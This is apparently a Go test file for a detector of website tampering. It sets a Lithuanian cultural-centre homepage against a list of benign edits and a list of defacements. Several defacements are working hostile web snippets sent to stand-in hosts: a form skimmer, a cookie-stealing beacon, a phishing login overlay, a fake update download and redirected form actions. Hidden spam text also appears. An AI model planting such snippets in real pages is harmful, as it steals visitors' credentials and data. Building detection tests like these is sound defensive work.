package content_test

import "strings"

// A page of a fifth set: a cultural centre whose site an agency made, with a cookie
// bar, a shop of tickets, a film in the head and a newsletter.
const centre = `<!doctype html><html lang="lt"><head><meta charset="utf-8"><title>Kultūros centras – renginiai, būreliai, kinas</title><meta name="description" content="Kultūros centras: koncertai, spektakliai, kino vakarai, mėgėjų meno kolektyvai."><meta property="og:title" content="Kultūros centras"><link rel="canonical" href="https://www.mokykla.example.lt/"><link rel="preload" as="font" href="/fonts/inter.woff2" crossorigin><link rel="stylesheet" href="/build/assets/app-4f1b.css"><script type="module" src="/build/assets/app-9c2d.js"></script><script async src="https://www.googletagmanager.com/gtm.js?id=GTM-X"></script></head>
<body><div id="cookie-consent" class="fixed bottom-0" style="display:none"><p>Mes naudojame slapukus, kad svetainė veiktų geriau.</p><button>Sutinku</button><button>Atmesti</button></div><header><a href="/"><svg aria-label="Kultūros centras"></svg></a><ul><li><a href="/renginiai">Renginiai</a></li><li><a href="/kolektyvai">Kolektyvai</a></li><li><a href="/kinas">Kinas</a></li><li><a href="/nuoma">Salių nuoma</a></li><li><a href="/apie">Apie centrą</a></li><li><a href="/kontaktai">Kontaktai</a></li></ul></header>
<section class="hero"><video autoplay muted loop poster="/img/hero.jpg"><source src="/video/hero.mp4"></video><h1>Susitikime kultūros centre</h1></section>
<section class="events"><!--TOP--><a class="card" href="/renginiai/jazz"><img src="/img/jazz.jpg" alt="Džiazo vakaras"><h3>Džiazo vakaras</h3><p>Gruodžio 5 d. 19 val. Didžioji salė. Trio iš Klaipėdos ir svečias saksofonininkas.</p></a><a class="card" href="/renginiai/teatras"><img src="/img/teatras.jpg" alt="Spektaklis"><h3>Spektaklis „Paskutinė vasara“</h3><p>Gruodžio 11 d. 18 val. Mėgėjų teatro premjera pagal lietuvių autorės apsakymus.</p></a><a class="card" href="/renginiai/kinas"><img src="/img/kinas.jpg" alt="Kino vakaras"><h3>Kino vakaras senjorams</h3><p>Gruodžio 15 d. 14 val. Filmą pristatys kino kritikė, po peržiūros – arbata ir pokalbis.</p></a><!--END--></section>
<form action="https://mokykla.us1.list-manage.com/subscribe/post" method="post"><label>Naujienlaiškis</label><input type="email" name="EMAIL"><button>Prenumeruoti</button></form>
<footer><p>Kultūros centras, Rinkos a. 2. Kasa dirba antradieniais–šeštadieniais 12–18 val. Tel. +370 600 00000</p><a href="https://www.facebook.com/kc">Facebook</a><a href="https://www.bilietai.lt/kc">Bilietai</a><a href="https://www.ltkt.lt/">Lietuvos kultūros taryba</a></footer></body></html>`

// fifthEdits were written before they were tried.
func fifthEdits() []edit {
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	swap := func(a, b string) func(string) string {
		return func(p string) string { return strings.ReplaceAll(p, a, b) }
	}
	return []edit{
		{"a build of the front", func(p string) string {
			return strings.NewReplacer("app-4f1b.css", "app-77aa.css", "app-9c2d.js", "app-0e3f.js").Replace(p)
		}},
		{"the month's events", func(p string) string {
			return main2(p, `<a class="card" href="/renginiai/sausis"><h3>Naujametis koncertas</h3><p>Sausio 3 d. 18 val. Orkestras ir solistai.</p></a><a class="card" href="/renginiai/trys"><h3>Trijų karalių eitynės</h3><p>Sausio 6 d. 16 val. Rinkos aikštė.</p></a>`)
		}},
		{"a horror film", in(`<a class="card" href="/kinas/siaubas"><h3>Siaubo filmų naktis: „Visi mirs“</h3><p>Tik suaugusiems. Pradžia vidurnaktį.</p></a>`)},
		{"a play about the underworld", in(`<h3>Miuziklas „Kazino“</h3><p>Istorija apie lošėjus, sukčius ir meilę.</p>`)},
		{"a play named after poker", in(`<a href="https://www.bilietai.lt/poker">Spektaklis „Pokeris“ – bilietai</a>`)},
		{"a festival of hip-hop", in(`<h3>Hip-hop festivalis: Dark Crew, Ghost Army</h3><p>Gatvės šokių grupės iš penkių miestų.</p>`)},
		{"foreign musicians", in(`<h3>The Anonymous Quartet</h3><p>Koncertas. Daugiau: <a href="https://www.anonymous-quartet.com/">www.anonymous-quartet.com</a></p>`)},
		{"a text of a poem", in(`<p>Žemė motina mano, upė sesuo, kaip ilgai dar bėgsi pro šalį, kaip ilgai dar žadinsi mane.</p>`)},
		{"film with an English title", in(`<h3>Stop Making Sense</h3><h3>Death to Smoochy</h3><p>Kino klubas.</p>`)},
		{"a rental with a price list", in(`<table><tr><td>Didžioji salė</td><td>120 Eur/val.</td></tr><tr><td>Mažoji salė</td><td>40 Eur/val.</td></tr></table>`)},
		{"a different shop of tickets", in(`<a href="https://kakava.lt/renginys/1">Kakava</a> <a href="https://www.tiketa.lt/">Tiketa</a> <script src="https://widgets.kakava.lt/w.js"></script>`)},
		{"a frame of a Lithuanian broadcaster", in(`<iframe src="https://www.lrt.lt/mediateka/embed/1" width="560" height="315"></iframe>`)},
		{"a frame of tickets", in(`<iframe src="https://embed.bilietai.lt/kc" width="100%" height="500"></iframe>`)},
		{"a survey of visitors", in(`<iframe src="https://www.surveymonkey.com/r/x" width="100%" height="500"></iframe>`)},
		{"the cookie bar is changed", swap("Mes naudojame slapukus, kad svetainė veiktų geriau.", "Naudojame būtinuosius, statistikos ir rinkodaros slapukus. Pasirinkite, kuriuos leidžiate.")},
		{"an SVG drawn in the page", in(`<svg viewBox="0 0 10 10"><path d="M0 0L10 10` + strings.Repeat("C1 2 3 4 5 6", 200) + `"/></svg>`)},
		{"settings in base64", atEnd(`<script>window.__APP__=JSON.parse(atob("` + strings.Repeat("eyJhIjoxfQ", 25) + `"));</script>`)},
		{"state of the page in JSON", atEnd(`<script id="__NEXT_DATA__" type="application/json">{"props":{"pageProps":{"events":[{"title":"Kazino miuziklas","url":"https://www.bilietai.lt/x"}]}},"buildId":"x"}</script>`)},
		{"an emergency bar", in(`<div role="alert" style="background:#c00;color:#fff">Renginys „Džiazo vakaras“ atšaukiamas dėl atlikėjo ligos. Pinigai už bilietus bus grąžinti.</div>`)},
		{"fewer words: the season is over", func(p string) string { return main2(p, `<p>Sezonas baigėsi. Iki rugsėjo!</p>`) }},
		{"a promise of cash back", in(`<p>Grąžinsime pinigus už atšauktus renginius: <a href="https://www.bilietai.lt/grazinimas">forma</a>.</p>`)},
		{"a link to download a ticket reader", in(`<a href="https://play.google.com/store/apps/details?id=lt.bilietai">Google Play</a> <a href="https://apps.apple.com/lt/app/id1">App Store</a>`)},
		{"a script of a seller of tickets in other lands", in(`<script src="https://www.eventbrite.com/static/widgets/eb_widgets.js"></script><script>window.EBWidgets&&window.EBWidgets.createWidget({widgetType:'checkout',eventId:'1'});</script>`)},
		{"the new title", swap("Kultūros centras – renginiai, būreliai, kinas", "Kultūros centras | Visi renginiai vienoje vietoje")},
		{"new parts for those who cannot see", in(`<button class="a11y" aria-pressed="false">Didesnis šriftas</button><span class="sr-only" style="position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)">Svetainės neįgaliesiems versija įjungiama šiuo mygtuku</span>`)},
	}
}

// fifthDefacements were written before they were tried.
func fifthDefacements() []edit {
	whole := func(text string) func(string) string { return func(string) string { return text } }
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	return []edit{
		{"a bar at the top", in(`<div style="background:red;color:white;font-size:60px">HACKED BY LOCAL KIDS</div>`)},
		{"only the headline", func(p string) string {
			return strings.Replace(p, "Susitikime kultūros centre", "Čia buvo hakeris Vytas", 1)
		}},
		{"one word of the headline in English", func(p string) string {
			return strings.Replace(p, "<h1>Susitikime kultūros centre", "<h1>HACKED", 1)
		}},
		{"a picture with words in its name", func(p string) string {
			return main2(p, `<img src="/img/hacked-by-x.png" alt=""><audio src="/m.mp3" autoplay loop></audio>`)
		}},
		{"casino behind the shop of tickets", func(p string) string {
			return strings.ReplaceAll(p, "https://www.bilietai.lt/kc", "https://kazino-lt.example/")
		}},
		{"the newsletter goes elsewhere", func(p string) string {
			return strings.ReplaceAll(p, "https://mokykla.us1.list-manage.com/subscribe/post", "https://harvest.example/p.php")
		}},
		{"the own script is another's", func(p string) string {
			return strings.ReplaceAll(p, `src="/build/assets/app-9c2d.js"`, `src="https://assets-build.example/app-9c2d.js"`)
		}},
		{"a false consent", atEnd(`<div style="position:fixed;bottom:0"><p>Įdiekite saugumo atnaujinimą</p><a href="https://sec-upd.example/update.msi">Įdiegti</a></div>`)},
		{"a skimmer", atEnd(`<script>document.addEventListener('submit',function(e){var d=new FormData(e.target);navigator.sendBeacon('https://cc.example/c',new URLSearchParams(d))})</script>`)},
		{"pictures of a stranger that tell who came", in(`<img src="http://93.184.216.34/p.gif?x" width="1" height="1"><script>new Image().src='http://93.184.216.34/c?'+document.cookie</script>`)},
		{"a worker of a service", atEnd(`<script>navigator.serviceWorker.register('/sw.js');importScripts('https://sw-push.example/w.js')</script>`)},
		{"a shop of copies", whole(`<!doctype html><html lang="ja"><head><title>公式通販サイト 送料無料</title></head><body><h1>ブランド時計 激安</h1><p>人気の腕時計を特別価格で販売中。全品送料無料。安心の品質保証付き。</p></body></html>`)},
		{"hidden words in the style of Lithuanians", atEnd(`<div style="display:none">greitas kreditas internetu, paskolos be užstato, lažybos internetu, kazino online, vartojimo paskola pigiau, kreditas internetu per 15 minučių, skubi paskola savaitgalį</div>`)},
		{"hidden by white on white with links in Lithuanian", atEnd(`<span style="color:white;font-size:1px">Pigūs <a href="https://kreditas-24.example/">kreditai internetu</a></span>`)},
		{"a foreign frame inside the events", in(`<iframe src="https://live-cams.example/embed" width="640" height="360"></iframe>`)},
		{"an offer of work from home", func(p string) string {
			return main2(p, `<h1>Uždirbkite 500 Eur per dieną iš namų!</h1><p>Investuokite į kriptovaliutas su dirbtiniu intelektu.</p><a href="https://invest-ai.example/">Registruotis</a><form action="https://invest-ai.example/reg"><input name="phone"></form>`)
		}},
		{"a manifesto", func(p string) string {
			return main2(p, `<h1>WE ARE LEGION</h1><p>You have ignored our warnings. Your data now belongs to us. Expect more.</p>`)
		}},
		{"nothing but a script", whole(`<html><head><script src="/x.js"></script></head><body></body></html>`)},
		{"nothing but a frame", whole(`<html><head><title>Kultūros centras – renginiai, būreliai, kinas</title></head><frameset><frame src="https://other.example/"></frameset></html>`)},
		{"a window to sign in", in(`<div style="position:fixed;top:20%;left:30%"><form method="post" action="//auth-gw.example/l"><h3>Microsoft 365</h3><input name="login"><input name="passwd" type="password"></form></div>`)},
	}
}
